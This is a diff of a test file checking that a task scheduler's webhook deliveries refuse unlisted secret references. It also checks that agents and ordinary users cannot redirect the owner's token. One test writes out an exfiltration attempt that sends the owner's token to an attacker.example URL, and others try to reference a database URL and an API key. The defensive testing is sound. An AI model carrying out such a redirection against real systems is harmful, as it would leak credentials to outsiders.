@@ -188,7 +188,7 @@ describe('webhook delivery headers are secret references', () => {
   });
 
   it('sends the value the reference names, and stores and shows only the reference', async () => {
-    const { store, first, call } = setup();
+    const { store, first, call } = setup({ scheduler: { deliverySecrets: ['COS_TEST_HOOK_TOKEN'] } });
     const hook = await receiver();
     process.env['COS_TEST_HOOK_TOKEN'] = 'tok-real-123';
     const created = await call('create_scheduled_task', hookTask(hook.url, { Authorization: 'Bearer ${COS_TEST_HOOK_TOKEN}', 'X-Api-Key': 'env:COS_TEST_HOOK_TOKEN', 'X-Trace': 'plain' }));
@@ -229,8 +229,37 @@ describe('webhook delivery headers are secret references', () => {
     expect(await call('list_scheduled_tasks', { task_id: 999 })).toMatchObject({ ok: false, error: { code: 'NOT_FOUND', message: 'Scheduled task 999 not found.' } });
   });
 
+  it('refuses references an agent writes, even the owner\'s agent, and names the list a reference must be in', async () => {
+    const { call } = setup({ scheduler: { deliverySecrets: ['COS_TEST_HOOK_TOKEN'] } });
+    const agent: ToolCaller = { kind: 'agent', agentName: 'planner', capabilities: ['scheduler_write'] };
+    const byAgent = await call('create_scheduled_task', hookTask('https://hooks.example.com/x', { Authorization: 'env:COS_TEST_HOOK_TOKEN' }), agent);
+    expect(byAgent).toMatchObject({ ok: false, error: { code: 'PERMISSION_DENIED', message: expect.stringContaining('only the owner of this server, in person') } });
+    const unlisted = await call('create_scheduled_task', hookTask('https://hooks.example.com/x', { Authorization: 'env:COS_DATABASE_URL' }));
+    expect(unlisted).toMatchObject({ ok: false, error: { code: 'INVALID_ARGUMENT', message: expect.stringContaining('COS_DATABASE_URL, which scheduler.deliverySecrets does not list') } });
+    const signed = await call('create_scheduled_task', { ...hookTask('https://hooks.example.com/x', {}), delivery_config: { url: 'https://hooks.example.com/x', secret_env: 'ANTHROPIC_API_KEY' } });
+    expect(signed).toMatchObject({ ok: false, error: { code: 'INVALID_ARGUMENT' } });
+    // A signed-in user's call: refused before anything is stored.
+    const user: ToolCaller = { kind: 'host', principal: { kind: 'user', userId: 3, email: 'alice@example.com', via: 'access_token' } };
+    expect(await call('create_scheduled_task', hookTask('https://hooks.example.com/x', { Authorization: 'env:COS_TEST_HOOK_TOKEN' }), user)).toMatchObject({ ok: false, error: { code: 'PERMISSION_DENIED' } });
+    expect(await call('create_scheduled_task', { ...hookTask('https://hooks.example.com/x', {}), handler_type: 'webhook_inbox' }, user)).toMatchObject({
+      ok: false,
+      error: { code: 'INVALID_ARGUMENT', message: expect.stringContaining('"webhook_inbox" is not a handler you can schedule') },
+    });
+  });
+
+  it('does not let a changed delivery carry the owner\'s reference somewhere else unless the owner makes the change', async () => {
+    const { call } = setup({ scheduler: { deliverySecrets: ['COS_TEST_HOOK_TOKEN'] } });
+    const created = await call('create_scheduled_task', hookTask('https://hooks.example.com/x', { Authorization: 'env:COS_TEST_HOOK_TOKEN' }));
+    const taskId = (created.ok ? (created.value as { task: { id: number } }) : undefined)?.task.id ?? -1;
+    const user: ToolCaller = { kind: 'host', principal: { kind: 'user', userId: 3, email: 'alice@example.com', via: 'access_token' } };
+    // Switching the channel keeps the stored config: refused for a user, allowed for the owner.
+    expect(await call('update_scheduled_task', { task_id: taskId, delivery_channel: 'webhook', delivery_config: { url: 'https://attacker.example/x', headers: { Authorization: 'env:COS_TEST_HOOK_TOKEN' } } }, user)).toMatchObject({ ok: false, error: { code: 'PERMISSION_DENIED' } });
+    expect(await call('update_scheduled_task', { task_id: taskId, delivery_channel: 'webhook' }, user)).toMatchObject({ ok: false, error: { code: 'PERMISSION_DENIED' } });
+    expect(await call('update_scheduled_task', { task_id: taskId, delivery_channel: 'webhook', delivery_config: { url: 'https://hooks.example.com/y', headers: { Authorization: 'env:COS_TEST_HOOK_TOKEN' } } })).toMatchObject({ ok: true });
+  });
+
   it('fails the delivery, naming the variable, when the reference is unset', async () => {
-    const { first, call } = setup();
+    const { first, call } = setup({ scheduler: { deliverySecrets: ['COS_TEST_HOOK_TOKEN'] } });
     const hook = await receiver();
     const created = await call('create_scheduled_task', hookTask(hook.url, { Authorization: 'env:COS_TEST_HOOK_TOKEN' }));
     const run = await first.runNow((created.ok ? (created.value as { task: { id: number } }) : undefined)?.task.id ?? -1);
